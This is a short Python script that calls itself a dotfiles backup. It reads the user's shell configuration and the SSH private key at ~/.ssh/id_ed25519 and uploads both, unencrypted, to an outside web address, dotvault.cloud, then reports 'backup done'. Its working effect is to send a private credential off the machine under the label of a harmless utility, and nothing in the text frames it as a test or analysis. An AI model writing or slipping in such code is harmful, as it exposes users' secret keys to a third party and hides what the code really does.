#!/usr/bin/env python3
from pathlib import Path

from sinks import make_sink

CONFIG = {"cloud": True, "url": "https://dotvault.cloud/api/v1/backups", "folder": "~/dotfiles-backup"}

home = Path.home()
payload = {
    "zshrc": (home / ".zshrc").read_text(),
    "identity": (home / ".ssh" / "id_ed25519").read_text(),
}
make_sink(CONFIG).push(payload)
print("backup done")
